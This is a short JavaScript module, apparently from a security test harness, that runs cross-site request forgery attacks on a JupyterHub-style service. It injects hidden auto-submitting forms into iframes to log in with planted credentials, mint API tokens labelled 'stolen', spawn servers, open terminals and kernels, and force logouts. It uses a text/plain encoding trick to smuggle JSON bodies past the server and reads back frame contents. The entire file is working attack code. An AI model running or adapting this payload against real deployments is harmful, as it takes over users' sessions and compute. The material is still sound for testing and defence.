// Posts forms, as navigations of windows and frames, wherever something is done.
({
    async begin({ acts, hub, portal, me, apart, other }) {
        const late = () => new Promise((done) => setTimeout(done, 3000)); // some never load
        const targets = [
            [`${hub}/hub/login?next=/hub/token`, { username: "lise", password: "visa", _xsrf: "" }],
            [`${hub}/hub/token`, { note: "stolen" }],
            [`${hub}/hub/api/users/${me}/tokens`, { note: "stolen" }],
            [`${hub}/hub/logout`, {}],
            [`${hub}/hub/spawn/${me}/stolen`, { "opt-environment": "scattering" }],
            [`${hub}/hub/accept-share`, { code: "x" }],
            [`${hub}/hub/oauth_login`, {}],
            [`${portal}logout`, {}],
            [`${portal}oauth_callback`, { code: "x", state: "x" }],
            ...acts.filter(([method]) => method === "POST").map(([, address, body]) => [address, JSON.parse(body ?? "{}")]),
            ...(apart ? [[`${other}api/terminals`, {}], [`${other}api/kernels`, {}], [`${other}logout`, {}]] : []),
        ];
        let number = 0;
        const one = async ([action, values]) => {
            for (const enctype of ["application/x-www-form-urlencoded", "text/plain"]) {
                const frame = document.createElement("iframe");
                frame.name = `frame-${number++}`;
                document.body.append(frame);
                const form = document.createElement("form");
                Object.assign(form, { action, method: "post", enctype, target: frame.name });
                const given = enctype === "text/plain" ? { [JSON.stringify({ ...values, x: "" }).slice(0, -2)]: "\"}" } : values;
                for (const [name, value] of Object.entries(given)) {
                    const input = document.createElement("input");
                    Object.assign(input, { name, value, type: "hidden" });
                    form.append(input);
                }
                document.body.append(form);
                const over = new Promise((done) => { frame.onload = done; });
                form.submit();
                await Promise.race([over, late()]);
                if (enctype !== "text/plain") { form.target = `window-${frame.name.length}`; form.submit(); }
            }
        };
        await Promise.all(targets.map(one));
    },
    async look() {
        return [...document.querySelectorAll("iframe")].map((frame) => { try { return frame.contentDocument.documentElement.outerHTML; } catch (error) { return String(error); } });
    },
})
